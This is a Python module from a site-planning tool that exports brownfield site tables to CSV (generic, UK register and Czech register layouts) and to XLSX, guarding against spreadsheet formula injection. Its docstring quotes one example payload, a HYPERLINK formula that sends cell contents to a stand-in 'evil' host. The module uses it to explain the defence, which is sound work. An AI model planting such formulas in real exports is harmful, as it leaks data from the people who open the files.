"""CSV and XLSX exports of the shortlisted sites, safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula (and tab or carriage return can smuggle one in), so a site name such as
``=HYPERLINK("http://evil/?"&A1)`` could leak data or run commands when a
planner opens the file (CSV injection, OWASP). :func:`neutralise` puts an
apostrophe before such text, which spreadsheets show as plain text; numbers are
written as numbers and never touched. XLSX text cells are also typed as strings,
never formulas.

Three CSV variants:

- ``gisplan``: every column of :func:`sites_table`;
- ``uk-blr``: the UK Brownfield Land Register columns (digital-land harmonised
  form, as ``gisplan read --format uk-blr`` reads them);
- ``cz-brownfields``: the Czech brownfield fields of
  ``docs/cz_brownfields_schema.md`` (``--format cz-brownfields``), plus gisplan's
  score and status.
"""

from __future__ import annotations

import csv
import datetime as dt
import math
import uuid
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pandas as pd

from gisplan.errors import InputError
from gisplan.export._dictionary import data_dictionary, sources_frame
from gisplan.export._gpkg import check_out, metadata

if TYPE_CHECKING:
    from gisplan.export._snapshot import ExportSnapshot

#: First characters that make a spreadsheet read text as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_VARIANTS = ("gisplan", "uk-blr", "cz-brownfields")
#: Columns of the UK Brownfield Land Register CSV (digital-land harmonised), in the registers' order.
UK_BLR_COLUMNS = (
    "resource-date",
    "entry-date",
    "organisation",
    "site",
    "site-address",
    "site-plan-url",
    "deliverable",
    "ownership",
    "planning-permission-status",
    "planning-permission-type",
    "hazardous-substances",
    "latitude",
    "longitude",
    "hectares",
    "minimum-net-dwellings",
    "maximum-net-dwellings",
    "start-date",
    "end-date",
    "notes",
    "resource",
    "name",
)
#: Fields of the Czech brownfield CSV (docs/cz_brownfields_schema.md), then gisplan's own.
CZ_COLUMNS = (
    "kod",
    "nazev",
    "kod_obce",
    "obec",
    "vymera_m2",
    "puvodni_vyuziti",
    "vlastnictvi",
    "kontaminace",
    "elektrina",
    "voda",
    "kanalizace",
    "plyn",
    "prijezd",
    "stav",
    "wkt",
    "gisplan_skore",
    "gisplan_profil",
    "gisplan_stav",
    "gisplan_energie_mwh_rok",
)
#: English ownership values (Czech register reader) -> UK register wording.
_UK_OWNERSHIP = {
    "municipal": "owned by a public authority",
    "other_public": "owned by a public authority",
    "private": "not owned by a public authority",
    "mixed": "mixed ownership",
}
_XLSX_ILLEGAL = str.maketrans({c: None for c in range(32) if chr(c) not in "\t\n\r"})


def neutralise(value: object) -> object:
    """``value`` with text that a spreadsheet would run as a formula made inert.

    Text starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
    leading apostrophe; every other value is returned unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _cell(value: object) -> object:
    """A spreadsheet cell: None for missing, ISO text for date-times (UTC), neutralised text."""
    if value is None or value is pd.NaT or (isinstance(value, float) and math.isnan(value)):
        return None
    if value is pd.NA:
        return None
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, dt.datetime):
        if value.tzinfo is not None:
            value = value.astimezone(dt.UTC).replace(tzinfo=None)
        return value.isoformat(sep=" ", timespec="seconds")
    if isinstance(value, dt.date):
        return value.isoformat()
    if hasattr(value, "item"):  # numpy scalars
        value = value.item()
    return neutralise(value)


def _points(snapshot: ExportSnapshot) -> tuple[pd.DataFrame, pd.DataFrame]:
    """Representative points of the sites: working CRS [m] and WGS84 [degrees]."""
    geoms = snapshot.sites.geometry
    valid = geoms.notna() & ~geoms.is_empty
    spots = geoms.where(valid).representative_point() if len(geoms) else geoms
    xy = pd.DataFrame({"x": spots.x.round(2), "y": spots.y.round(2)}, index=snapshot.sites.index)
    lonlat = spots.to_crs("EPSG:4326") if len(geoms) else spots
    ll = pd.DataFrame({"longitude": lonlat.x.round(6), "latitude": lonlat.y.round(6)}, index=snapshot.sites.index)
    return xy.where(valid), ll.where(valid)


def sites_table(snapshot: ExportSnapshot) -> pd.DataFrame:
    """The sites without geometry, plus ``x``/``y`` [m, working CRS] and ``longitude``/``latitude`` [°, WGS84].

    The coordinates are of a point inside each site (its representative point).
    """
    frame = pd.DataFrame(snapshot.sites.drop(columns=snapshot.sites.geometry.name))
    xy, lonlat = _points(snapshot)
    return pd.concat([frame, xy, lonlat], axis=1)


def _attr(snapshot: ExportSnapshot, site_id: str, *names: str) -> str:
    attrs = snapshot.attributes.get(site_id, {})
    for name in names:
        value = attrs.get(name)
        if value not in (None, ""):
            return str(value)
    return ""


def _number(value: Any, digits: int) -> Any:
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return None
    return round(float(value), digits)


def _date(value: Any) -> str:
    if isinstance(value, pd.Timestamp | dt.datetime):
        return value.date().isoformat()
    return str(value or "")


def uk_blr_table(snapshot: ExportSnapshot) -> pd.DataFrame:
    """The sites in the UK Brownfield Land Register columns (:data:`UK_BLR_COLUMNS`)."""
    _, lonlat = _points(snapshot)
    today = snapshot.exported_at.date().isoformat()
    rows = []
    for (_, site), (_, ll) in zip(snapshot.sites.iterrows(), lonlat.iterrows(), strict=True):
        sid = str(site["site_id"])
        ownership = _attr(snapshot, sid, "ownership")
        if site["kind"] == "municipal_land" and not ownership:
            ownership = "municipal"
        score = "" if pd.isna(site["score"]) else f"score {site['score']:.1f} ({site['profile']}); "
        notes = f"gisplan {site['kind']}; status {site['status']}; {score}{site['note']}".strip().rstrip(";")
        code = str(site["municipality_code"])
        rows.append(
            {
                "resource-date": today,
                "entry-date": today,
                "organisation": f"municipality-cz:{code}" if code else "gisplan",
                "site": sid,
                "site-address": ", ".join(p for p in (str(site["name"]), str(site["municipality"])) if p),
                "site-plan-url": "",
                "deliverable": "",
                "ownership": _UK_OWNERSHIP.get(ownership, ownership or "unknown ownership"),
                "planning-permission-status": _attr(snapshot, sid, "planning_permission_status") or "not permissioned",
                "planning-permission-type": _attr(snapshot, sid, "planning_permission_type"),
                "hazardous-substances": _attr(snapshot, sid, "hazardous_substances"),
                "latitude": ll["latitude"],
                "longitude": ll["longitude"],
                "hectares": _number(site["area_ha"], 4),
                "minimum-net-dwellings": "",
                "maximum-net-dwellings": "",
                "start-date": _date(site["first_seen"]),
                "end-date": site["end_date"],
                "notes": notes,
                "resource": "",
                "name": str(site["municipality"]),
            }
        )
    return pd.DataFrame(rows, columns=list(UK_BLR_COLUMNS))


def _czech(english: str, column: str) -> str:
    from gisplan.sources._registers import CZ_CATEGORIES

    values = CZ_CATEGORIES[column][1]
    back = {v: k for k, v in values.items()}
    return back.get(english, english if english in values else "")


def cz_brownfields_table(snapshot: ExportSnapshot) -> pd.DataFrame:
    """The sites in the Czech brownfield fields (:data:`CZ_COLUMNS`); ``wkt`` in EPSG:5514."""
    from gisplan.sources._registers import CZ_CATEGORIES

    geoms = snapshot.sites.geometry
    krovak = geoms.to_crs("EPSG:5514") if len(geoms) and snapshot.crs != "EPSG:5514" else geoms
    rows = []
    for (_, site), geom in zip(snapshot.sites.iterrows(), krovak, strict=True):
        sid = str(site["site_id"])
        row: dict[str, Any] = {
            "kod": sid,
            "nazev": site["name"],
            "kod_obce": site["municipality_code"],
            "obec": site["municipality"],
            "vymera_m2": _number(site["area_m2"], 1),
        }
        for czech, (english, _) in CZ_CATEGORIES.items():
            row[czech] = _czech(_attr(snapshot, sid, czech, english), czech)
        row |= {
            "stav": _attr(snapshot, sid, "stav"),
            "wkt": "" if geom is None or geom.is_empty else geom.wkt,
            "gisplan_skore": _number(site["score"], 1),
            "gisplan_profil": site["profile"],
            "gisplan_stav": site["status"],
            "gisplan_energie_mwh_rok": _number(site["energy_mwh_yr"], 1),
        }
        rows.append(row)
    return pd.DataFrame(rows, columns=list(CZ_COLUMNS))


_VARIANTS: dict[str, Callable[[ExportSnapshot], pd.DataFrame]] = {
    "gisplan": sites_table,
    "uk-blr": uk_blr_table,
    "cz-brownfields": cz_brownfields_table,
}


def _replace(target: Path, write: Callable[[Path], None]) -> Path:
    temp = target.with_name(f".{target.stem}.{uuid.uuid4().hex[:8]}{target.suffix}")
    try:
        write(temp)
        temp.replace(target)
    finally:
        temp.unlink(missing_ok=True)
    return target


def write_csv(snapshot: ExportSnapshot, path: Path | str, *, variant: str = "gisplan") -> Path:
    """Write the sites as CSV (UTF-8 with BOM, so spreadsheets read Czech letters); return the path.

    Parameters
    ----------
    variant
        ``gisplan`` (every column), ``uk-blr`` or ``cz-brownfields``.
    """
    if variant not in _VARIANTS:
        msg = f"CSV variant {variant!r} is unknown; use one of {', '.join(CSV_VARIANTS)}"
        raise InputError(msg)
    target = check_out(Path(path), (".csv",))
    table = _VARIANTS[variant](snapshot)

    def write(temp: Path) -> None:
        with temp.open("w", encoding="utf-8-sig", newline="") as fh:
            out = csv.writer(fh, quoting=csv.QUOTE_MINIMAL)
            out.writerow([str(c) for c in table.columns])
            for values in table.itertuples(index=False, name=None):
                out.writerow(["" if (c := _cell(v)) is None else c for v in values])

    return _replace(target, write)


def _sheet(book: Any, title: str, table: pd.DataFrame) -> None:
    """One sheet, streamed (openpyxl's write-only mode): text cells typed as strings, never formulas."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils import get_column_letter

    sheet = book.create_sheet(title=title[:31])
    sheet.freeze_panes = "A2"
    for col, name in enumerate(table.columns, start=1):
        sheet.column_dimensions[get_column_letter(col)].width = min(max(len(str(name)) + 2, 10), 40)
    sheet.append([str(c) for c in table.columns])
    for values in table.itertuples(index=False, name=None):
        row: list[Any] = []
        for value in values:
            shown = _cell(value)
            if isinstance(shown, str):
                cell = WriteOnlyCell(sheet, value=shown.translate(_XLSX_ILLEGAL))
                cell.data_type = "s"  # a string, whatever it starts with
                row.append(cell)
            else:
                row.append(shown)
        sheet.append(row)


def write_xlsx(snapshot: ExportSnapshot, path: Path | str) -> Path:
    """Write the sites and their related tables as an XLSX workbook; return the path.

    Sheets: ``sites``, ``annotations``, ``community_links``, ``funding_links``,
    ``communities``, ``funding_calls``, ``data_dictionary``, ``data_sources`` and
    ``metadata``.
    """
    from openpyxl import Workbook

    target = check_out(Path(path), (".xlsx",))
    meta: Mapping[str, str] = metadata(snapshot)
    sheets = {
        "sites": sites_table(snapshot),
        "annotations": snapshot.annotations,
        "community_links": snapshot.community_links,
        "funding_links": snapshot.funding_links,
        "communities": snapshot.communities,
        "funding_calls": snapshot.funding_calls,
        "data_dictionary": data_dictionary(snapshot),
        "data_sources": sources_frame(snapshot.sources),
        "metadata": pd.DataFrame({"key": list(meta), "value": list(meta.values())}),
    }

    def write(temp: Path) -> None:
        book = Workbook(write_only=True)
        for title, table in sheets.items():
            _sheet(book, title, table)
        book.save(temp)

    return _replace(target, write)


__all__ = [
    "CSV_VARIANTS",
    "CZ_COLUMNS",
    "FORMULA_TRIGGERS",
    "UK_BLR_COLUMNS",
    "cz_brownfields_table",
    "neutralise",
    "sites_table",
    "uk_blr_table",
    "write_csv",
    "write_xlsx",
]
